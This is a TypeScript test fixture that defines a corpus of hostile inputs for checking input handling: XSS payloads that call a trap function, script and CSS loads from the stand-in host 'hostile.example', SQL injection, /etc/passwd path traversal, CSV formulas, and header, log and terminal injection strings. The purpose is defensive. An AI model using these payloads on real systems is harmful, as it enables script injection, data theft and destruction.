/** The function hostile text tries to call; the test defines it on every page. */
export const TRAP = '__hostile'
/** A reserved example host: any request to it comes from hostile text. */
export const STRANGE_HOST = 'hostile.example'

const call = (id: string) => `${TRAP}('${id}')`

/** Markup, scripts and addresses that would run: each calls the trap under its own name. */
const RUNNING = {
  script: `<script>${call('script')}</script>`,
  'script-end': `</script><script>${call('script-end')}</script>`,
  'script-from-elsewhere': `<script src="https://${STRANGE_HOST}/a.js"></script>`,
  'script-split': `<scr<script>ipt>${call('script-split')}</scr</script>ipt>`,
  'script-cased': `<ScRiPt >${call('script-cased')}</sCrIpT >`,
  img: `<img src=x onerror=${call('img')}>`,
  'img-without-spaces': `<img/src=x/onerror=${call('img-without-spaces')}>`,
  'img-unclosed': `<img src=x onerror="${call('img-unclosed')}"`,
  svg: `<svg onload=${call('svg')}>`,
  'svg-script': `<svg><script>${call('svg-script')}</script></svg>`,
  'svg-link': `<svg><a xlink:href="javascript:${call('svg-link')}"><text y=20>here</text></a></svg>`,
  'svg-animate': `<svg><animate onbegin=${call('svg-animate')} attributeName=x dur=1s></svg>`,
  math: `<math><mtext><style><img src=x onerror=${call('math')}></style></mtext></math>`,
  body: `<body onload=${call('body')}>`,
  details: `<details open ontoggle=${call('details')}>open</details>`,
  video: `<video><source onerror=${call('video')}></video>`,
  focus: `<input autofocus onfocus=${call('focus')}>`,
  iframe: `<iframe src="javascript:${call('iframe')}"></iframe>`,
  'iframe-srcdoc': `<iframe srcdoc="<script>parent.${call('iframe-srcdoc')}</script>"></iframe>`,
  object: `<object data="javascript:${call('object')}"></object>`,
  base: `<base href="https://${STRANGE_HOST}/">`,
  refresh: `<meta http-equiv="refresh" content="0;url=javascript:${call('refresh')}">`,
  form: `<form action="https://${STRANGE_HOST}/"><button formaction="javascript:${call('form')}">Go</button></form>`,
  template: `<template shadowrootmode=open><img src=x onerror=${call('template')}></template>`,
  'double-quote': `" autofocus onfocus="${call('double-quote')}" x="`,
  'single-quote': `' autofocus onfocus='${call('single-quote')}' x='`,
  backtick: `\`><img src=x onerror=${call('backtick')}>`,
  'textarea-end': `</textarea><img src=x onerror=${call('textarea-end')}>`,
  'title-end': `</title><img src=x onerror=${call('title-end')}>`,
  'style-end': `</style><img src=x onerror=${call('style-end')}>`,
  'noscript-end': `<noscript><p title="</noscript><img src=x onerror=${call('noscript-end')}>">`,
  'comment-end': `--><img src=x onerror=${call('comment-end')}><!--`,
  'comment-open': `<!--><img src=x onerror=${call('comment-open')}>-->`,
  cdata: `]]><img src=x onerror=${call('cdata')}><![CDATA[`,
  'javascript-address': `javascript:${call('javascript-address')}`,
  'javascript-address-tabbed': `java\tscript:${call('javascript-address-tabbed')}`,
  'javascript-address-escaped': `&#106;avascript:${call('javascript-address-escaped')}`,
  'data-address': `data:text/html,<script>opener.${call('data-address')}</script>`,
  'script-string': `';${call('script-string')};//`,
  'script-string-escaped': `\\";${call('script-string-escaped')};//`,
  'json-state': `"}]};${call('json-state')};[{"":"`,
  'line-separator': `a\u2028${call('line-separator')}\u2029//`,
  'template-literal': `\${${call('template-literal')}}`,
  'double-braces': `{{constructor.constructor("${call('double-braces')}")()}}`,
  'entities-twice': `&lt;img src=x onerror=${call('entities-twice')}&gt;`,
  'entities-in-percent': `%3Cscript%3E${call('entities-in-percent')}%3C/script%3E`,
  'full-width': `＜script＞${call('full-width')}＜/script＞`,
  // Short enough for a name, which has at most forty characters.
  'name-img': `<img src=x onerror=${call('n1')}>`,
  'name-svg': `<svg/onload=${call('n2')}>`,
  'name-script': `<script>${call('n3')}</script>`,
  'name-quote': `" onfocus=${call('n4')} autofocus "`,
}

/** Not executable, but breaks code that confuses it with its own syntax. */
const BREAKING = {
  'css-block': `}</style><style>*{background:url(https://${STRANGE_HOST}/css)}`,
  'css-address': `red;background:url(https://${STRANGE_HOST}/css-value)`,
  'css-import': `@import 'https://${STRANGE_HOST}/css-import';`,
  'img-elsewhere': `<img src="https://${STRANGE_HOST}/seen.gif">`,
  'markdown-link': `[click](javascript:${call('markdown-link')}) ![](https://${STRANGE_HOST}/md.gif)`,
  'address-lure': `https://localhost@${STRANGE_HOST}/login //${STRANGE_HOST}/ \\\\${STRANGE_HOST}\\x`,
  'message-number': '{0} {1} # %s %d %n',
  'message-plural': '{count, plural, one {# like} other {# likes}}',
  'message-broken': "{name '{' }} {x, select,",
  'message-tag': '<0>bold</0> <b>bold</b> {name}',
  prototype: '__proto__ constructor toString hasOwnProperty',
  sql: "'; drop table accounts; -- ' or 1=1 /*",
  'csv-formula': `=HYPERLINK("https://${STRANGE_HOST}/","x") @SUM(1+1) +1 -1`,
  path: '../../etc/passwd ..\\..\\x %2e%2e%2f',
  'bidi-override': '\u202Egnp.exe\u202C \u2066mixed\u2069 \u05D0\u05D1\u05D2',
  'zero-width': 'ad\u200Bmin\u200D \u2060\uFEFFx',
  'emoji-joined': '👩‍👩‍👧‍👦 🏳️‍🌈 👨🏿‍🚀 🇳🇱',
  'marks-stacked': `Z${'\u0301\u0316\u035C'.repeat(12)}algo`,
  // For form fields of a dozen characters, and for those limited to the bank character set.
  tiny: '<b>{0}</b>',
  'bank-letters': "O'lt &lt/b alert(1)",
  'special-letters': 'İıßﬀ ﷽ Ω Å ℵ',
}

/** With control characters for lines, emails, logs and terminals: accepted in multi-line texts, refused elsewhere. */
const STEERING = {
  'mail-header': `x\r\nBcc: victim@${STRANGE_HOST}\r\nX-Hostile: yes\r\n\r\nbody`,
  'log-line': 'x\n{"level":50,"msg":"forged"}\n127.0.0.1 - - "GET / HTTP/1.1" 200',
  terminal: '\u001B[2J\u001B]0;owned\u0007\u009B31mred',
  'response-split': 'x\r\nset-cookie: hostile=1\r\n\r\n<html>',
}

/** What no database or page can hold, or absurdly much of it: never stored. */
const UNKEEPABLE = {
  nul: 'nothing\0ness',
  'nul-in-markup': `<img\0 src=x onerror=${call('nul-in-markup')}>`,
  'half-a-letter': 'half\uD800aletter',
  'ten-thousand-marks': `e${'\u0301'.repeat(10_000)}`,
}

export type Hostile = { id: string; text: string }
const listed = (texts: Record<string, string>): Hostile[] => Object.entries(texts).map(([id, text]) => ({ id, text }))

/** Allowed in multi-line texts and shown as written. */
export const KEEPABLE: readonly Hostile[] = [...listed(RUNNING), ...listed(BREAKING), ...listed(STEERING)]
/** Everything; each field decides what it accepts. */
export const CORPUS: readonly Hostile[] = [...KEEPABLE, ...listed(UNKEEPABLE)]
/** One of each kind, for places where everything would take too long. */
export const SAMPLE: readonly Hostile[] = CORPUS.filter(({ id }) =>
  [
    ...['script-end', 'img', 'double-quote', 'javascript-address', 'json-state', 'message-plural', 'prototype'],
    ...['css-block', 'sql', 'bidi-override', 'mail-header', 'terminal', 'nul', 'half-a-letter'],
  ].includes(id),
)
